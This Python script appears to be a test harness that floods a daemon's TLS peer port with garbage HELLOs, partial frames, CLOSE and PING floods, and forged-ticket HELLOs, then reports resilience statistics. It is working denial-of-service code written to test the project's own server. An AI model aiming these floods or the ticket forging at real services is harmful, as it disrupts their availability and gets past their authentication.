"""Floods a daemon's peer port with unauthenticated links, as a hostile host would.

    link_flood_tool.py ATTACK ADDRESS PORT HOST SECONDS CONCURRENCY [DAEMON_PRINCIPAL]
    ATTACK: garbage-hold   TLS, then HELLOS garbage-token HELLOs, then hold the link open
                           and read what comes (the issue 14 item 1 attack)
            partial-data   TLS, then a DATA frame header announcing 1 MiB and all but one
                           byte of it, then hold (item 3)
            unread-hellos  TLS, one HELLO with a valid ticket (alice's, made with this host's
                           keytab as forge_tool does: the link is authenticated), then
                           garbage HELLOs as fast as TCP takes them, never reading (item 3)
            close-flood    TLS, then CLOSE frames for channel 1 (given up before its HELLO,
                           then over again) as fast as TCP takes them: frames that cost
                           the receiver work and answer nothing (red-team follow-up)
            ping-flood     TLS, then PINGs as fast as TCP takes them, reading the PONGs

Keeps CONCURRENCY links open or opening for SECONDS, reopening each one the peer closes.
Prints JSON: links attempted, how many got through TLS, the most held open at once after
TLS, the most RESULTs one link got (and of those not EAGAIN), the longest a link lived
after TLS, bytes sent.
Run inside the attacking host's network namespace; talks only to ADDRESS.
"""

from __future__ import annotations

import json
import os
import socket
import sys
from typing import Any

from twisted.internet import reactor as _reactor, ssl
from twisted.internet.interfaces import IHandshakeListener
from twisted.internet.protocol import ClientFactory, Protocol
from twisted.protocols.tls import TLSMemoryBIOFactory
from zope.interface import implementer

from nipc import wire
from nipc.tls import EXPORTER_LABEL

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from forge_tool import token_for  # noqa: E402 - a sibling script, not a package

reactor: Any = _reactor
HELLOS = 10
#: What the frame floods write, 36 KiB at a time.
FLOOD_BLOCKS = {"close-flood": wire.frame(wire.Kind.CLOSE, 1) * 4096,
                "ping-flood": wire.frame(wire.Kind.PING, 0) * 4096}


class Stats:
    def __init__(self) -> None:
        self.attempted = 0
        self.tls = 0
        self.open = 0
        self.max_open = 0
        self.max_results = 0
        self.max_refusals = 0
        self.longest = 0.0
        self.sent = 0
        self.authenticated: list[str] = []


@implementer(IHandshakeListener)
class Attacker(Protocol):
    def __init__(self, flood: "Flood") -> None:
        self.flood = flood
        self.decoder = wire.FrameDecoder()
        self.results = 0
        self.refusals = 0
        self.started = reactor.seconds()
        self.through = False
        self.next_channel = 1
        self.paused = False
        self.flooding = False
        self.gone = False

    def connectionMade(self) -> None:
        if self.flood.attack == "unread-hellos":  # a small window: b's answers pile up at b
            self.transport.transport.getHandle().setsockopt(  # type: ignore[union-attr]
                socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)

    def handshakeCompleted(self) -> None:
        stats = self.flood.stats
        self.through = True
        self.started = reactor.seconds()  # a link's life counts from its TLS handshake
        stats.tls += 1
        stats.open += 1
        stats.max_open = max(stats.max_open, stats.open)
        attack = self.flood.attack
        if attack == "garbage-hold":
            self.transport.write(b"".join(self.hello() for _ in range(HELLOS)))  # type: ignore[union-attr]
        elif attack == "partial-data":
            self.send(wire.data_header(1, wire.MAX_DATA) + b"\0" * (wire.MAX_DATA - 1))
        elif attack == "unread-hellos":
            exporter = self.transport.getHandle().export_keying_material(  # type: ignore[union-attr]
                EXPORTER_LABEL, 32)
            token = token_for(wire.binding(exporter, 1), self.flood.principal, self.flood.host)
            self.transport.write(self.hello(token))  # type: ignore[union-attr]
        elif attack in FLOOD_BLOCKS:
            self.transport.registerProducer(self, True)  # type: ignore[union-attr]
            self.resumeProducing()

    def flood_unread(self) -> None:
        """Authenticated: from now on read nothing, and send HELLOs while TCP takes them."""
        self.transport.pauseProducing()  # type: ignore[union-attr]
        self.transport.registerProducer(self, True)  # type: ignore[union-attr]
        self.resumeProducing()

    def hello(self, token: bytes = b"\x60\x82garbage") -> bytes:
        number, self.next_channel = self.next_channel, self.next_channel + 1
        self.flood.stats.sent += 1
        return wire.encode(wire.Hello("/run/flood.sock", self.flood.host, ("flood.test",),
                                      token, "flood"), number)

    def send(self, data: bytes) -> None:
        self.flood.stats.sent += len(data)
        self.transport.write(data)  # type: ignore[union-attr]

    # the unread-hellos producer: write HELLOs while TCP takes them
    def resumeProducing(self) -> None:
        self.paused = False
        if self.flood.attack in FLOOD_BLOCKS and not self.flooding:
            self.frame_flood()
            return
        while not self.paused and self.next_channel < 1 << 20 and self.transport is not None:
            self.transport.write(b"".join(self.hello() for _ in range(64)))

    def frame_flood(self) -> None:
        """A few blocks of frames per turn of the reactor while TCP takes them (so
        this tool's own reactor still sees links close and opens new ones)."""
        self.flooding = False
        for _ in range(16):
            if self.paused or self.gone or reactor.seconds() >= self.flood.until:
                return
            if self.transport.getHandle().get_shutdown():  # type: ignore[union-attr]
                # The peer closed TLS. Our writes are dropped from now on, and TCP would
                # wait for them (a paused producer) instead of closing: end it here.
                self.transport.abortConnection()  # type: ignore[union-attr]
                return
            self.send(FLOOD_BLOCKS[self.flood.attack])
        self.flooding = True
        reactor.callLater(0, self.frame_flood)

    def pauseProducing(self) -> None:
        self.paused = True

    def stopProducing(self) -> None:
        self.paused = True

    def dataReceived(self, data: bytes) -> None:
        try:
            frames = self.decoder.feed(data)
        except Exception:  # noqa: BLE001 - the peer's business
            return
        for kind, number, payload in frames:
            if self.flood.attack == "unread-hellos" and kind == wire.Kind.RESULT and number == 1:
                result = wire.decode(kind, payload)
                assert isinstance(result, wire.Result)
                self.flood.stats.authenticated.append(result.errno_name)
                self.flood_unread()
                return
            if kind == wire.Kind.RESULT:
                self.results += 1
                # EAGAIN: turned away before any Kerberos work (a limit); others: refused
                self.refusals += b'"errno":"EAGAIN"' not in payload
        stats = self.flood.stats
        stats.max_results = max(stats.max_results, self.results)
        stats.max_refusals = max(stats.max_refusals, self.refusals)

    def connectionLost(self, reason: Any = None) -> None:
        self.gone = True
        stats = self.flood.stats
        if self.through:
            stats.open -= 1
            stats.longest = max(stats.longest, reactor.seconds() - self.started)
        self.flood.lost(self)


class Flood(ClientFactory):
    def __init__(self, attack: str, address: str, port: int, host: str, seconds: float,
                 concurrency: int, principal: str) -> None:
        self.attack, self.address, self.port, self.host = attack, address, port, host
        self.principal = principal
        self.stats = Stats()
        self.until = reactor.seconds() + seconds
        self.concurrency = concurrency
        self.live: set[Attacker] = set()
        options = ssl.CertificateOptions(raiseMinimumTo=ssl.TLSVersion.TLSv1_3)
        self.tls = TLSMemoryBIOFactory(options, True, self)

    def buildProtocol(self, addr: Any) -> Attacker:
        attacker = Attacker(self)
        self.live.add(attacker)
        return attacker

    def start(self) -> None:
        for _ in range(self.concurrency):
            self.one()
        reactor.callLater(self.until - reactor.seconds(), self.stop)

    def one(self) -> None:
        if reactor.seconds() < self.until and self.stats.attempted < 20000:
            self.stats.attempted += 1
            reactor.connectTCP(self.address, self.port, self.tls, timeout=10)

    def lost(self, attacker: Attacker) -> None:
        self.live.discard(attacker)
        self.one()

    def clientConnectionFailed(self, connector: Any, reason: Any) -> None:
        reactor.callLater(0.05, self.one)

    def stop(self) -> None:
        longest = max([reactor.seconds() - a.started for a in self.live if a.through],
                      default=0.0)
        self.stats.longest = max(self.stats.longest, longest)
        print(json.dumps(vars(self.stats)))
        for attacker in list(self.live):
            if attacker.transport is not None:
                attacker.transport.abortConnection()
        reactor.callLater(0.5, reactor.stop)


def main() -> None:
    attack, address, port, host, seconds, concurrency, *principal = sys.argv[1:]
    flood = Flood(attack, address, int(port), host, float(seconds), int(concurrency),
                  principal[0] if principal else "")
    reactor.callWhenRunning(flood.start)
    reactor.run()


if __name__ == "__main__":
    main()
